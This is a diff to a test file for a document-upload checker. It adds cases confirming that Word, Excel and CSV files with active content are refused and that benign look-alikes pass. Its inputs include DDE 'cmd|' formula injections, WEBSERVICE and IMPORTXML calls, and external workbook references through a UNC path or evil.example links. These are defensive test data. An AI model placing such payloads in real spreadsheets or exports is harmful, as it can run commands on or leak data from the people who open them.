@@ -42,6 +42,7 @@ test("macros, controls, embedded programs and what is loaded from elsewhere are 
     }),
     "a template from elsewhere": docxOf({ "word/_rels/settings.xml.rels": rels("https://evil.example/a.dotm") }),
     "a picture from elsewhere": docxOf({ "word/_rels/document.xml.rels": rels("https://evil.example/a.png", "image") }),
+    "a page in HTML": docxOf({ "word/_rels/document.xml.rels": rels("a.html", "aFChunk", "Internal") }),
     "a link to a file": docxOf({ "word/_rels/document.xml.rels": rels("file:///c:/a.exe", "hyperlink") }),
   };
   for (const [what, content] of Object.entries(hostile))
@@ -63,9 +64,16 @@ test("macros, controls, embedded programs and what is loaded from elsewhere are 
   const links = field(' HYPERLINK "https://portico.example/link" ', "");
   expect(await check(docx, links)).toEqual({ end: links.length });
   const cells = (formula: string) => xlsxOf({ "main.xml": text(`<worksheet><c><f>${formula}</f></c></worksheet>`) });
-  for (const formula of ["cmd|'/c calc'!A0", "1+WEBSERVICE(A1)", "_xlfn.IMAGE(A1)", 'DDE("soffice";"a";"b")'])
+  for (const formula of [
+    "cmd|'/c calc'!A0",
+    "1+WEBSERVICE(A1)",
+    "_xlfn.IMAGE(A1)",
+    'DDE("soffice";"a";"b")',
+    "'\\\\evil\\[a.xlsx]S'!A1",
+    "[a.xlsx]S!A1",
+  ])
     expect([formula, await check(xlsx, cells(formula))]).toEqual([formula, { refused: "activeOffice" }]);
-  const plain = cells("SUM('A|B'!A1:A2)&amp;\"a|b!\"");
+  const plain = cells("SUM('A|B'!A1:A2)&amp;\"a|b!'[x]'!\"+SUM(Table1[Sum])+'Year 2026'!A1");
   expect(await check(xlsx, plain)).toEqual({ end: plain.length });
   const dataLink = '<Override PartName="/l.xml" ContentType="application/vnd.openxmlformats.externalLink+xml"/>';
   const linked = xlsxOf({ "[Content_Types].xml": contentTypes(xlsx, dataLink), "l.xml": text("<ddeLink/>") });
@@ -104,8 +112,12 @@ test("a table as text is taken in UTF-8 or an older encoding; pages, archives an
   expect(await csv("a;%PDF-1.7")).toEqual({ refused: "hiddenContent" });
   for (const cell of ["=cmd|'/c calc'!A0", "=1+cmd|'/C calc'!A0", "@SUM(1,1)*cmd |'/c calc'!A0", "-2+3+cmd|'x'!A0"])
     expect([cell, await csv(`a;"${cell}"`)]).toEqual([cell, { refused: "activeOffice" }]);
-  for (const row of ["-12,40;Fee | card!", "a | b!", "=SUM(A1:A2);ok"])
+  for (const cell of ["=WEBSERVICE(A1)", "+1+importxml(A1)", "='\\\\evil\\[a.xlsx]S'!A1", "@A1+[a.xlsx]S!A1"])
+    expect([cell, await csv(`a;${cell}`)]).toEqual([cell, { refused: "activeOffice" }]);
+  for (const row of ["-12,40;Fee | card!", "a | b!", "=SUM(A1:A2);ok", "=A1\nPlease call (1)", "-12,40;'[a]'!"])
     expect(await csv(row)).toEqual({ end: row.length });
   const long = `${"= |".repeat(2_000_000)}!`;
   expect(await csv(long), "a table of millions of formulas is read in time").toEqual({ end: long.length });
+  const names = `a;'${"/'".repeat(2_000_000)}`;
+  expect(await csv(names), "or of names").toEqual({ end: names.length });
 });
